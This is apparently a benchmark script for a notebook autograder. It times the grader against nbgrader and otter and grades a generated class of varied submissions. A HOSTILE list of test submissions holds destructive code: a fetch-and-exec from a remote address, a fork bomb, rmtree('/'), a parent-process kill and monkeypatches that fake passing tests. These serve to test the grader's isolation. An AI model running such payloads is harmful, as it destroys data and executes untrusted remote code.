"""How fast is grading, and does a whole class come through? A toy class against nbgrader and otter; a class of generated students.

python benchmarks/grading.py [--otter PYTHON]        a class of 10 with 3 notebooks each, ours and theirs, in one run
python benchmarks/grading.py --class 100 --out DIR   100 students over many exercises, graded by `mlops grade`

--otter is the Python of an environment of its own with otter in it:

python3 -m venv /tmp/otter && /tmp/otter/bin/pip install otter-grader ipykernel "setuptools<81"
"""

import argparse
import ast
import copy
import io
import json
import os
import random
import re
import shutil
import subprocess
import sys
import tempfile
import time
import tokenize
from collections import Counter, defaultdict
from collections.abc import Callable
from pathlib import Path
from typing import Any

from mlops_lib.course.grading import find_submissions, grade_class, read_exercises
from mlops_lib.course.reports import write_exports
from mlops_lib.settings import settings

MARK = 0.15  # s a notebook
Notebook = dict[str, Any]


# --- the toy class -----------------------------------------------------------------------------------------------------------

TASK = '''def {name}(xs):
    "{what}"
    ### BEGIN SOLUTION
    return {solution}
    ### END SOLUTION
'''
TEST = '''assert {name}([1, 2, 3]) == {seen}, "not yet"
### BEGIN HIDDEN TESTS
def driver():
    return [{name}([5, 1, 4]), {name}([2.5])]


def compare(got):
    assert got == {hidden}, f"got {{got}}"


compare(driver())
### END HIDDEN TESTS
'''
TOYS = (("total", "sum(xs)", "6", "[10, 2.5]"), ("largest", "max(xs)", "3", "[5, 2.5]"), ("spread", "max(xs) - min(xs)", "2", "[4, 0]"))


def toy_course(root: Path) -> None:
    "Three exercises of one question, as nbgrader wants them."
    for number, (name, solution, seen, hidden) in enumerate(TOYS):
        meta = {"schema_version": 3, "task": False}
        cells = [
            ("task", TASK.format(name=name, what=name, solution=solution), {"grade": False, "solution": True, "locked": False}),
            ("test", TEST.format(name=name, seen=seen, hidden=hidden), {"grade": True, "solution": False, "locked": True, "points": 2}),
        ]
        made = [
            {"cell_type": "code", "id": f"{key}-{number}", "metadata": {"nbgrader": meta | more | {"grade_id": key}}, "source": source, "outputs": [], "execution_count": None}
            for key, source, more in cells
        ]
        kernel = {"kernelspec": {"name": "python3", "display_name": "python3", "language": "python"}}
        path = root / "solutions" / "toy" / f"{number}_{name}.ipynb"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(json.dumps({"cells": made, "metadata": kernel, "nbformat": 4, "nbformat_minor": 5}))


OTTER = """
import json, sys, time
from pathlib import Path
from otter.api import grade_submission
from otter.assign import main as assign

root, students, seconds = Path(sys.argv[1]), int(sys.argv[2]), 0.0
scores = [0.0] * students
raw = lambda source: {"cell_type": "raw", "metadata": {}, "source": source}
code = lambda source: {"cell_type": "code", "metadata": {}, "source": source, "outputs": [], "execution_count": None}
for name, solution, seen, hidden in json.loads(sys.argv[3]):
    cells = [
        raw("# ASSIGNMENT CONFIG\\nexport_cell: false\\ngenerate: true"), raw(f"# BEGIN QUESTION\\nname: {name}\\npoints: 2"),
        {"cell_type": "markdown", "metadata": {}, "source": name}, raw("# BEGIN SOLUTION"),
        code(f"def {name}(xs):\\n    # BEGIN SOLUTION\\n    return {solution}\\n    # END SOLUTION"), raw("# END SOLUTION"),
        raw("# BEGIN TESTS"), code(f"assert {name}([1, 2, 3]) == {seen}"), code(f"# HIDDEN\\nassert [{name}([5, 1, 4]), {name}([2.5])] == {hidden}"),
        raw("# END TESTS"), raw("# END QUESTION"),
    ]
    kernel = {"kernelspec": {"name": "python3", "display_name": "python3", "language": "python"}}
    (root / f"{name}.ipynb").write_text(json.dumps({"cells": cells, "metadata": kernel, "nbformat": 4, "nbformat_minor": 4}))
    assign(root / f"{name}.ipynb", root / name, no_run_tests=True, no_pdfs=True)
    packed = next((root / name / "autograder").glob("*.zip"))
    for i in range(students):
        start = time.perf_counter()
        side = "student" if i % 3 == 2 else "autograder"
        scores[i] += grade_submission(str(root / name / side / f"{name}.ipynb"), str(packed), quiet=True).total
        seconds += time.perf_counter() - start
print(json.dumps([seconds, scores]))
"""


def otter(python: str, students: int) -> tuple[float, list[float]]:  # seconds, the points of each student
    "otter run, not isolated, on the same answers in its own format."
    with tempfile.TemporaryDirectory(prefix="otter-") as folder:
        command = [python, "-W", "ignore", "-c", OTTER, folder, str(students), json.dumps(TOYS)]
        done = subprocess.run(command, stdout=subprocess.PIPE, text=True, check=True)
    seconds, scores = json.loads(done.stdout.splitlines()[-1])
    return seconds, scores


def compare_toys(other: str | None, students: int = 10) -> bool:
    "Ours, nbgrader's and otter's, one after the other, on the same answers."
    import nbgrader.apps  # both need it; neither is charged for it
    from traitlets.config import Config

    from mlops_lib.course.gradebook import write_gradebook

    with tempfile.TemporaryDirectory(prefix="toy-") as name:
        root = Path(name)
        toy_course(root)
        config = Config()
        config.CourseDirectory.root, config.CourseDirectory.source_directory, config.CourseDirectory.release_directory = str(root), "solutions", "exercises"
        api = nbgrader.apps.NbGraderAPI(config=config)
        told = api.generate_assignment("toy")
        assert told["success"], told
        for i in range(students):
            for path in (root / ("exercises" if i % 3 == 2 else "solutions") / "toy").glob("*.ipynb"):
                target = root / "submitted" / f"student-{i}" / "toy" / path.name
                target.parent.mkdir(parents=True, exist_ok=True)
                shutil.copy(path, target)
        notebooks = students * len(TOYS)
        start = time.perf_counter()
        found, exercises = find_submissions(root / "submitted"), read_exercises(root)
        results = grade_class(found, exercises, root, root / "out" / "grades.db")
        write_exports(results, root / "out")
        write_gradebook(root / "out" / "nbgrader", results, found, exercises, root)
        ours = (time.perf_counter() - start) / notebooks
        start = time.perf_counter()
        for i in range(students):
            told = api.autograde("toy", f"student-{i}")
            assert told["success"], told
        theirs = (time.perf_counter() - start) / notebooks
        with api.gradebook as book:
            scores = {f"student-{i}": book.find_submission("toy", f"student-{i}").score for i in range(students)}
        mine = {s: sum(g.score for g in results if g.student == s) for s in scores}
        same = mine == scores
    print(f"{notebooks} notebooks, {os.cpu_count()} cores, load {os.getloadavg()[0]:.1f}")
    print(f"ours, isolated, tables, pages and gradebook   {ours:.3f} s a notebook   mark ≤ {MARK} s: {'met' if ours <= MARK else 'MISSED'}")
    print(f"nbgrader autograde, not isolated              {theirs:.3f} s a notebook   ours takes {ours / theirs:.3f} of it")
    if other:
        seconds, points = otter(other, students)
        same &= points == list(mine.values())
        print(f"otter run, not isolated                       {seconds / notebooks:.3f} s a notebook   ours takes {ours * notebooks / seconds:.3f} of it")
    print(f"the same points: {same}")
    return same and ours <= MARK


# --- a class -------------------------------------------------------------------------------------------------------------------


def grade_id(cell: dict[str, Any]) -> str:
    return cell["metadata"].get("nbgrader", {}).get("grade_id", "")


def filled(name: str, only: int | None = None, edit: Callable[[str, int], str] = lambda source, number: source) -> Notebook:
    "The released notebook with its first tasks solved."
    given, solved = (json.loads((settings.root / folder / f"{name}.ipynb").read_text("utf-8")) for folder in ("exercises", "solutions"))
    answers = {grade_id(c): "".join(c["source"]) for c in solved["cells"] if c["metadata"].get("nbgrader", {}).get("solution")}
    answers = {key: re.sub(r"(?m)^ *### (BEGIN|END) SOLUTION\n?", "", source) for key, source in answers.items()}
    for number, key in enumerate(list(answers)[:only]):
        (cell,) = (c for c in given["cells"] if grade_id(c) == key)
        cell["source"] = edit(answers[key], number)
    return given


def renamed(source: str) -> str:
    "Other names for variables that functions set, other spacing: what somebody does who copies."
    try:
        tree = ast.parse(source)
    except SyntaxError:
        return source
    functions = [n for n in ast.walk(tree) if isinstance(n, ast.FunctionDef | ast.AsyncFunctionDef)]
    names = {n.id for f in functions for n in ast.walk(f) if isinstance(n, ast.Name) and isinstance(n.ctx, ast.Store)}
    taken = {n.arg for n in ast.walk(tree) if isinstance(n, ast.arg | ast.keyword) and n.arg} | {f.name for f in functions}
    taken |= {n.id for j in ast.walk(tree) if isinstance(j, ast.JoinedStr) for n in ast.walk(j) if isinstance(n, ast.Name)}
    taken |= {n for g in ast.walk(tree) if isinstance(g, ast.Global | ast.Nonlocal) for n in g.names}
    taken |= {n.id for c in ast.walk(tree) if isinstance(c, ast.ClassDef) for s in c.body if not isinstance(s, ast.FunctionDef) for n in ast.walk(s) if isinstance(n, ast.Name)}
    taken |= {n.id for s in tree.body if not isinstance(s, ast.FunctionDef | ast.ClassDef) for n in ast.walk(s) if isinstance(n, ast.Name)}
    new = {old: f"my_{i}" for i, old in enumerate(sorted(names - taken))}
    tokens, before = [], ""
    for token in tokenize.generate_tokens(io.StringIO(source).readline):
        text = new.get(token.string, token.string) if token.type == tokenize.NAME and before != "." else token.string
        before = token.string
        tokens.append((token.type, text))
    return tokenize.untokenize(tokens) + "\n# all mine\n"


def without(made: Notebook, *keys: str) -> Notebook:
    return made | {"cells": [c for c in made["cells"] if grade_id(c) not in keys]}


def tests_last(made: Notebook) -> Notebook:
    return made | {"cells": sorted(made["cells"], key=lambda c: grade_id(c).startswith("test"))}


def twice(name: str) -> Notebook:
    "Each cell of the exercise once more below itself, as it was released."
    given = {grade_id(c): c for c in filled(name, 0)["cells"]}
    made = filled(name)
    return made | {"cells": [c for cell in made["cells"] for c in (cell, copy.deepcopy(given[grade_id(cell)]))]}


def first(name: str, begin: str = "", end: str = "", every: bool = False) -> Notebook:
    return filled(name, edit=lambda source, number: f"{begin}{source}{end}" if every or number == 0 else source)


HOSTILE = (
    "import json\njson.dumps = lambda *a, **k: '{\"id\": 1, \"value\": {}}'\n",
    "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\nraise SystemExit\n",
    f"exec(open({str(settings.root / 'solutions' / '0_start' / '00_settings.ipynb')!r}).read())\n",
    "import urllib.request\nexec(urllib.request.urlopen('http://192.0.2.1/', timeout=2).read())\n",
    "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass\n",
    "import shutil\nshutil.rmtree('/', ignore_errors=True)\nraise SystemExit('10/10')\n",
    "import builtins\nbuiltins.AssertionError = type('A', (BaseException,), {})\nget_ipython().run_cell_async = None\n",
)
NOISE = "import sys, warnings\nprint('working ...', file=sys.stderr)\nwarnings.warn('be careful')\nprint('x' * 5000)\n"
KINDS: dict[str, tuple[int, Callable[[str, int], Notebook]]] = {  # of 100, and how it is made from an exercise and a number
    "perfect": (30, lambda name, n: filled(name)),
    "partly solved": (16, lambda name, n: filled(name, 1 + n % 2)),
    "unsolved": (6, lambda name, n: filled(name, 0)),
    "wrong": (6, lambda name, n: filled(name, edit=lambda s, i: s + "\n_all = [k for k, v in globals().items() if callable(v) and getattr(v, '__module__', '') == '__main__']\nfor _k in _all: globals()[_k] = lambda *a, **k: None\n")),
    "error": (6, lambda name, n: first(name, "a_name_that_is_not_there\n")),
    "loop": (4, lambda name, n: first(name, end="\nwhile True: pass\n")),
    "crash": (4, lambda name, n: first(name, end="\nimport os\nos.abort()\n")),
    "copied": (6, lambda name, n: filled(name, edit=lambda s, i: renamed(s))),
    "noisy": (5, lambda name, n: first(name, NOISE, every=True)),
    "cells deleted": (4, lambda name, n: without(filled(name), "imports", "test-1")),
    "cells moved": (4, lambda name, n: tests_last(filled(name))),
    "cells twice": (4, lambda name, n: twice(name)),
    "hostile": (5, lambda name, n: filled(name, 0, lambda s, i: s) | {"cells": [*filled(name, 0)["cells"][:2], {"cell_type": "code", "id": "own", "metadata": {}, "source": HOSTILE[n % len(HOSTILE)], "outputs": [], "execution_count": None}, *filled(name, 0)["cells"][2:]]}),
}  # fmt: skip
FULL = {"perfect", "copied", "noisy", "cells deleted", "cells moved", "cells twice"}
NONE = {"unsolved", "hostile", "wrong"}


def make_class(students: int, names: list[str], folder: Path) -> dict[tuple[str, str], str]:
    "Students with one or two notebooks each; which kind each of them is. The same numbers, the same class."
    rng = random.Random(8)  # noqa: S311
    kinds = [kind for kind, (share, _) in KINDS.items() for _ in range(share)]
    rng.shuffle(kinds)
    made, number = dict[tuple[str, str], str](), 0
    for student in range(students):
        who = f"student-{student:03}"
        for _ in range(1 + student % 2):
            name, kind = names[number % len(names)], kinds[number % len(kinds)]
            path = folder / who / f"{name}.ipynb"
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(json.dumps(KINDS[kind][1](name, number)), "utf-8")
            made[who, name] = kind
            number += 1
        day, hour = divmod(rng.randrange(20, 60), 24)
        (folder / who / "timestamp.txt").write_text(f"2026-11-{29 + day if day < 2 else 30} {hour:02}:15:00.000000 UTC\n")
    (folder / "student-xyz.ipynb").write_text("this is no notebook")
    return made


def run_class(students: int, out: Path, every: int, seconds: float) -> bool:
    names = [e.name for e in read_exercises(settings.root)][::every]
    folder = out / "class"
    shutil.rmtree(folder, ignore_errors=True)
    made = make_class(students, names, folder)
    print(f"{students} students, {len(made)} notebooks over {len({n for _, n in made})} exercises", flush=True)
    command = [str(Path(sys.executable).parent / "mlops"), "grade", str(folder), "--out", str(out / "grades"), "--seconds", str(seconds)]
    command += ["--due", "2026-11-30T12:00", "--late", "10%/day", "--late-most", "50%", "--similarity", "--strict", "--json"]
    start = time.perf_counter()
    done = subprocess.run(command, stdout=subprocess.PIPE, text=True, check=True)
    took = time.perf_counter() - start
    told, by_kind, wrong = json.loads(done.stdout)["submissions"], defaultdict[str, Counter[str]](Counter), []
    for s in told:
        kind = made.get((s["student"], s["exercise"]), "no notebook")
        by_kind[kind][s["reason"]] += 1
        if (kind in FULL and s["score"] < s["max_score"]) or (kind in NONE and s["score"]) or (kind not in FULL | NONE and s["score"] == s["max_score"] > 0 and kind not in ("loop", "crash")):
            wrong.append(f"{s['student']} {s['exercise']} {kind}: {s['score']:g}/{s['max_score']:g} {s['reason']} {s['message'][:100]}")
    for kind, reasons in by_kind.items():
        print(f"{kind:16s} {dict(reasons)}")
    print(f"{took:.0f} s, {took / len(told):.2f} s a notebook, load {os.getloadavg()[0]:.1f}")
    print(*(f"NOT AS EXPECTED: {line}" for line in wrong), sep="\n")
    return not wrong


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--otter", metavar="PYTHON", help="Python of an environment that has otter")
    parser.add_argument("--class", dest="students", type=int, help="grade a generated class of so many")
    parser.add_argument("--out", type=Path, help="folder for the class and its grades [a temporary one]")
    parser.add_argument("--every", type=int, default=1, help="take every n-th exercise")
    parser.add_argument("--seconds", type=float, default=30, help="for one cell")
    args = parser.parse_args()
    good = run_class(args.students, args.out or Path(tempfile.mkdtemp(prefix="class-")), args.every, args.seconds) if args.students else compare_toys(args.otter)
    sys.exit(not good)


if __name__ == "__main__":
    main()
